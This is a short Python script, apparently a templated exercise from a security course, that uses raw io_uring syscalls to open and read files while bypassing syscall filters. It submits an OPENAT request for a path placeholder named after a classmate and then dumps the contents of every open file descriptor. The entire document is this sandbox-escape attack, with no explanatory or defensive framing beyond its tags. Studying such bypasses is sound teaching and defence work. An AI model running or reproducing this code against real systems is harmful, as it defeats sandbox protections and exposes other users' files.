"""Sets up an io_uring, through which files and sockets are opened past every filter of calls."""
# attack: week=03 exercise=pyramid
import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
parameters = (ctypes.c_uint32 * 30)()
ring = libc.syscall(@SYS:io_uring_setup@, ctypes.c_long(4), parameters)
print("ring", ring, os.strerror(ctypes.get_errno()))
for call, arguments in ((@SYS:io_uring_enter@, (3, 1, 0, 0, None, 0)), (@SYS:io_uring_register@, (3, 0, None, 0))):
    result = libc.syscall(call, *arguments)
    print(result, os.strerror(ctypes.get_errno()))
assert ring >= 0
OP_OPENAT, READ_ONLY, AT_FDCWD = 18, 0, -100
entries = mmap.mmap(ring, 4 * 64, offset=0x10000000)
queue = mmap.mmap(ring, parameters[22] + 4 * 4, offset=0)
path = ctypes.create_string_buffer(b"@CLASSMATE@")
entries[:64] = (
    bytes([OP_OPENAT, 0, 0, 0])
    + AT_FDCWD.to_bytes(4, "little", signed=True)
    + bytes(8)
    + ctypes.addressof(path).to_bytes(8, "little")
    + bytes(40)
)
tail = parameters[11]
queue[tail : tail + 4] = (1).to_bytes(4, "little")
libc.syscall(@SYS:io_uring_enter@, ring, 1, 1, 1, None, 0)
for descriptor in range(3, 64):
    try:
        print(os.pread(descriptor, 10_000, 0))
    except OSError:
        pass
